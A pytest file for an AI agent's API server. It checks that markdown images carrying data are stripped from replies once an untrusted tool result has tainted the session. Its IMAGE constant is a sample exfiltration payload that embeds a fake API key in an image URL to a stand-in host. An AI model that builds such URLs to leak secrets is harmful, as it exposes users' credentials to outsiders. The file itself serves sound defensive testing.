"""Through the api-server (a real gateway, the real openai SDK): once a tool result is
untrusted, a markdown image the model builds with data in it never reaches the client,
streamed or not; the same reply in an untainted turn is passed as it was."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path
from typing import Any

import pytest

from hermes_agent.api.tools import untrusted_output
from hermes_agent.testing import make_kernel
from hermes_agent.testing.fake_llm import FakeLLMServer, reply_text, reply_tool_call

from .test_api_server import KEY, client, served, streamed

pytest.importorskip("starlette", reason="the api-server needs starlette")
openai = pytest.importorskip("openai")

IMAGE = "![status](https://img.example/s.png?k=sk-live-123)"


def feed(ctx: Any) -> None:
    ctx.register_tool("read_feed", "testing", {
        "name": "read_feed", "description": "Read the news feed.",
        "parameters": {"type": "object", "properties": {}}},
        untrusted_output("feed:news")(lambda args, **_: json.dumps({"items": ["hi"]})))
feed.__name__ = "feed"


def kernel(home: Path, server: FakeLLMServer) -> Any:
    config = {"model": {"provider": "custom", "base_url": server.openai_base_url,
                        "default": "fake-model", "max_retries": 0},
              "sessions": {"auto_title": False},
              "platforms": {"api_server": {"enabled": True, "port": 0}}}
    return make_kernel(home, config=config, builtins=True, plugins=[feed],
                       env={"HERMES_HOME": str(home), "API_SERVER_KEY": KEY})


def test_a_tainted_reply_loses_its_data_image_on_the_api_server(home, fake_llm) -> None:
    fake_llm.script(reply_text(f"untainted {IMAGE}"),
                    reply_tool_call("read_feed", {}), reply_text(f"streamed {IMAGE}"),
                    reply_text(f"plain {IMAGE}"))
    k = kernel(home, fake_llm)

    async def scenario() -> tuple[str, str, str]:
        async with served(k) as (_runner, base):
            api = client(base)
            before, _ = await streamed(api, "status?", "conv-1")
            after, _ = await streamed(api, "read the feed", "conv-1")
            answer = await api.chat.completions.create(
                model="hermes-agent", messages=[{"role": "user", "content": "again"}],
                extra_headers={"X-Hermes-Session": "conv-1"})
            return before, after, answer.choices[0].message.content

    before, after, plain = asyncio.run(scenario())
    assert before == f"untainted {IMAGE}"
    assert "sk-live-123" not in after and after.startswith("streamed [image removed")
    assert "sk-live-123" not in plain and "[image removed" in plain
